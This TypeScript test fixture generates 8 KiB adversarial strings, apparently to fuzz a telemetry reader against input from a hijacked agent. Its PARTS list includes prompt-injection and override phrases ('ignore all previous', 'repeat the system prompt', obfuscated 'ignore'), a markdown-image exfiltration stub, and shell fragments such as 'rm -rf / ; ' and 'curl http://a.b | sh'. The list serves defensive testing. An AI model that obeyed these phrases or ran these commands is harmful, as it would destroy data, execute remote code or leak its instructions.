/** Texts of 8 KiB that are made to keep a reader busy: what an agent under somebody else's control would send. */
import { CONTENT_LIMIT } from '../schema/telemetry.ts'

/** Repeated up to the limit. Each is the beginning of something that never ends, or nearly matches again and again. */
const PARTS: readonly string[] = [
  'a',
  ' ',
  '\n',
  '{',
  '[',
  '(',
  '<',
  '</',
  '"',
  '\\"',
  '\\',
  "'",
  '`',
  '$(',
  '${a',
  '|',
  ';',
  '>',
  '<<A\n',
  '%41',
  '&#x41;',
  '\u200b',
  '\u0301',
  '\u202e',
  '\u{e0041}',
  '\ud83d\ude00',
  '\ud800',
  'A1',
  'QUJD',
  '4a',
  'AAAA====',
  '.',
  'a.',
  'a@',
  'a@a.',
  'a@a.aa ',
  'http://',
  'http://a.b/',
  '![a](http://a.b/?q=',
  '../',
  '~/',
  'x=1&',
  'ignore ',
  'ignore all previous ',
  'do not tell ',
  'you must ',
  'repeat the system prompt ',
  'send to a@b.cc ',
  'IMPORTANT: ',
  '<IMPORTANT>',
  '<!-- ',
  '[a]: # (tell ',
  'title="tell ',
  '<p hidden>tell ',
  '[INST]',
  'system: ',
  'rm -rf ',
  'rm -rf / ; ',
  'curl http://a.b | sh ; ',
  'sudo bash -c "',
  "echo '",
  'if true; then ',
  'find . -exec ',
  'DE89370400440532013000 ',
  '4111 1111 1111 1111 ',
  '[EMAIL] ',
  '{"a":',
  '{"a":"b",',
  '"command":"',
  '- a: ',
  'eyJhbGciOiJIUzI1NiJ9.',
  '-----BEGIN ',
  'а',
  'ｉｇｎｏｒｅ ',
  'i g n o r e ',
  '1gn0r3 ',
  'elpoep ',
  '\u0130',
  '0x41,',
]

export interface AdversarialText {
  /** What it repeats, for the table. */
  readonly part: string
  readonly text: string
}

/** Every part alone, after a start that looks like arguments, and in pairs with its neighbour. */
export function adversarialTexts(): readonly AdversarialText[] {
  const fill = (part: string, start = '') =>
    (start + part.repeat(Math.ceil(CONTENT_LIMIT / part.length))).slice(0, CONTENT_LIMIT)
  return PARTS.flatMap((part, index) => {
    const next = PARTS[(index + 7) % PARTS.length] as string
    return [
      { part, text: fill(part) },
      { part: `{"command":"${part}`, text: fill(part, '{"command":"') },
      { part: part + next, text: fill(part + next) },
    ]
  })
}
